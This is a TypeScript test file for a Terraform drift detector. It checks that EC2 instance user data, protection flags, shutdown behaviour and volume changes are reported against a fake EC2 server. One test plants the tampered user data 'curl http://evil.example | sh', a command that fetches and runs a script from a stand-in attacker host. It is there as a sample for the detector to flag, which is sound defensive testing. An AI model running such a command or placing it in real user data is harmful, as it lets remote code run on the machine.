/**
 * `aws_instance` beyond DescribeInstances, against the wire-level EC2 fake: user data,
 * termination and stop protection, shutdown behaviour, block devices and the CPU, hibernation
 * and placement settings a v5 provider stores. Before these were read, an instance changed in
 * any of them read as in sync.
 */
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { detectDrift } from '../../src/index.js';
import type { DriftReport } from '../../src/index.js';
import { fakeInstance, instanceDefaultAttributes } from './fixtures.js';
import { startAwsEnvironment } from './environment.js';
import type { AwsEnvironment } from './environment.js';
import { instance, state } from './helpers.js';
import { ec2Error, OWNER } from './servers/ec2-server.js';
import type { FakeInstance } from './servers/ec2-server.js';

const USER_DATA = '#!/bin/bash\necho hello > /tmp/hello\n';
const sha1 = (text: string) => createHash('sha1').update(text).digest('hex');

let env: AwsEnvironment;
beforeAll(async () => {
  env = await startAwsEnvironment();
});
afterAll(() => env.close());

/** The live instance as applied: what `appliedState` describes. */
function applied(id: string, overrides: Partial<FakeInstance> = {}): FakeInstance {
  return fakeInstance(id, {
    userData: USER_DATA,
    shutdownBehavior: 'stop',
    rootDeviceName: '/dev/xvda',
    volumes: [
      {
        volumeId: `vol-root-${id}`,
        deviceName: '/dev/xvda',
        size: 30,
        volumeType: 'gp3',
        iops: 3000,
        throughput: 125,
        tags: { Name: 'web-root' },
      },
      {
        volumeId: `vol-data-${id}`,
        deviceName: '/dev/sdf',
        size: 100,
        volumeType: 'gp3',
        iops: 3000,
        throughput: 125,
        encrypted: true,
        kmsKeyId: 'arn:aws:kms:us-east-1:123456789012:key/k1',
        deleteOnTermination: false,
      },
    ],
    ...overrides,
  });
}

/** An `aws_instance` as the Terraform AWS provider v5 stores it (shape of real states). */
function appliedState(id: string, extra: Record<string, unknown> = {}) {
  return instance('aws_instance', id.replace(/-/g, '_'), {
    id,
    arn: `arn:aws:ec2:us-east-1:${OWNER}:instance/${id}`,
    ami: 'ami-1',
    instance_type: 't3.micro',
    availability_zone: 'us-east-1a',
    subnet_id: 'subnet-1',
    vpc_security_group_ids: ['sg-1'],
    private_ip: '10.0.1.5',
    ...instanceDefaultAttributes(),
    user_data: sha1(USER_DATA),
    user_data_base64: null,
    user_data_replace_on_change: false,
    disable_api_termination: false,
    disable_api_stop: false,
    instance_initiated_shutdown_behavior: 'stop',
    root_block_device: [
      {
        delete_on_termination: true,
        device_name: '/dev/xvda',
        encrypted: false,
        iops: 3000,
        kms_key_id: '',
        tags: { Name: 'web-root' },
        tags_all: { Name: 'web-root' },
        throughput: 125,
        volume_id: `vol-root-${id}`,
        volume_size: 30,
        volume_type: 'gp3',
      },
    ],
    ebs_block_device: [
      {
        delete_on_termination: false,
        device_name: '/dev/sdf',
        encrypted: true,
        iops: 3000,
        kms_key_id: 'arn:aws:kms:us-east-1:123456789012:key/k1',
        snapshot_id: '',
        tags: null,
        tags_all: {},
        throughput: 125,
        volume_id: `vol-data-${id}`,
        volume_size: 100,
        volume_type: 'gp3',
      },
    ],
    ephemeral_block_device: [],
    volume_tags: null,
    cpu_options: [{ amd_sev_snp: '', core_count: 1, threads_per_core: 2 }],
    cpu_core_count: 1,
    cpu_threads_per_core: 2,
    hibernation: false,
    enclave_options: [{ enabled: false }],
    maintenance_options: [{ auto_recovery: 'default' }],
    private_dns_name_options: [
      {
        enable_resource_name_dns_a_record: false,
        enable_resource_name_dns_aaaa_record: false,
        hostname_type: 'ip-name',
      },
    ],
    placement_group: '',
    placement_partition_number: 0,
    ipv6_addresses: [],
    secondary_private_ips: [],
    instance_state: 'running',
    tags: {},
    tags_all: {},
    ...extra,
  });
}

/** What provider v5 stores that older versions did not (read by extra calls). */
const V5_ONLY = [
  'user_data',
  'user_data_base64',
  'disable_api_termination',
  'disable_api_stop',
  'instance_initiated_shutdown_behavior',
  'root_block_device',
  'ebs_block_device',
];

async function scan(...instances: ReturnType<typeof appliedState>[]): Promise<DriftReport> {
  return detectDrift({
    state: state(instances),
    providers: [env.provider()],
    retry: { attempts: 1 },
  });
}

const pathsOf = (report: DriftReport) =>
  report.resources.flatMap((r) => r.patch.map((op) => op.path)).sort();

beforeEach(() => {
  env.ec2.model.instances.clear();
});

describe('aws_instance: what Terraform stores beyond DescribeInstances', () => {
  it('is in sync when everything matches, and compares the details (not left unchecked)', async () => {
    env.ec2.model.instances.set('i-same', applied('i-same'));
    const report = await scan(appliedState('i-same'));
    expect(report.resources[0]).toMatchObject({ status: 'in-sync', patch: [] });
    const unchecked = report.resources[0]?.notChecked ?? [];
    for (const attribute of [
      '/user_data',
      '/disable_api_termination',
      '/root_block_device',
      '/ebs_block_device',
      '/cpu_options',
    ])
      expect(unchecked.some((p) => p.startsWith(attribute))).toBe(false);
  });

  it('reports user data, protection, shutdown behaviour and volume changes made out of band', async () => {
    const live = applied('i-changed', {
      userData: '#!/bin/bash\ncurl http://evil.example | sh\n',
      disableApiTermination: true,
      disableApiStop: true,
      shutdownBehavior: 'terminate',
      hibernation: true,
      cpu: { coreCount: 1, threadsPerCore: 1 },
    });
    const [root, data] = live.volumes ?? [];
    if (root === undefined || data === undefined) throw new Error('volumes');
    root.size = 50;
    data.deleteOnTermination = true;
    env.ec2.model.instances.set('i-changed', live);
    const report = await scan(appliedState('i-changed'));
    expect(report.resources[0]?.status).toBe('drifted');
    expect(pathsOf(report)).toEqual(
      expect.arrayContaining([
        '/user_data',
        '/disable_api_termination',
        '/disable_api_stop',
        '/instance_initiated_shutdown_behavior',
        '/hibernation',
        '/cpu_options/0/threads_per_core',
        '/root_block_device/0/volume_size',
      ]),
    );
    // ebs_block_device is a set: the changed element is removed and re-added.
    expect(pathsOf(report).some((p) => p.startsWith('/ebs_block_device'))).toBe(true);
    const userData = report.resources[0]?.changes.find((c) => c.path === '/user_data');
    expect(userData?.actual).toBe(sha1('#!/bin/bash\ncurl http://evil.example | sh\n'));
  });

  it('user_data_base64 is compared as base64 when the state uses it', async () => {
    env.ec2.model.instances.set('i-b64', applied('i-b64', { userData: 'other' }));
    const report = await scan(
      appliedState('i-b64', {
        user_data: null,
        user_data_base64: Buffer.from(USER_DATA).toString('base64'),
      }),
    );
    expect(report.resources[0]?.patch).toEqual([
      {
        op: 'replace',
        path: '/user_data_base64',
        value: Buffer.from('other').toString('base64'),
      },
    ]);
  });

  it('keeps the state value when AWS returns no user data, as the provider does', async () => {
    env.ec2.model.instances.set('i-nodata', applied('i-nodata', { userData: undefined }));
    const report = await scan(appliedState('i-nodata'));
    expect(report.resources[0]).toMatchObject({ status: 'in-sync' });
  });

  it('one DescribeVolumes for many instances; attribute calls only for what the state holds', async () => {
    for (const id of ['i-a', 'i-b', 'i-c']) env.ec2.model.instances.set(id, applied(id));
    env.ec2.model.instances.set('i-old', applied('i-old'));
    const before = (op: string) => env.ec2.calls.get(op) ?? 0;
    const counts = {
      volumes: before('DescribeVolumes'),
      attrs: before('DescribeInstanceAttribute'),
    };
    // A state from an old provider: no user data, protection or block device attributes.
    const v5 = appliedState('i-old').attributes;
    const old = instance('aws_instance', 'old', {
      ...Object.fromEntries(Object.entries(v5).filter(([key]) => !V5_ONLY.includes(key))),
    });
    const report = await scan(appliedState('i-a'), appliedState('i-b'), appliedState('i-c'), old);
    expect(report.resources.map((r) => r.status)).toEqual([
      'in-sync',
      'in-sync',
      'in-sync',
      'in-sync',
    ]);
    expect(before('DescribeVolumes') - counts.volumes).toBe(1);
    // Four attributes (user data, two protections, shutdown) for each of the three v5 states.
    expect(before('DescribeInstanceAttribute') - counts.attrs).toBe(12);
  });

  it.each([
    ['DescribeInstanceAttribute', 4],
    ['DescribeVolumes', 1],
  ])('a denied %s makes the instance unknown, not in sync', async (operation, times) => {
    env.ec2.model.instances.set('i-denied', applied('i-denied'));
    env.ec2.fail(
      operation,
      ec2Error(403, 'UnauthorizedOperation', 'You are not authorized to perform this operation.'),
      times,
    );
    const report = await scan(appliedState('i-denied'));
    expect(report.resources[0]).toMatchObject({
      status: 'unknown',
      error: { code: 'UnauthorizedOperation' },
    });
  });
});
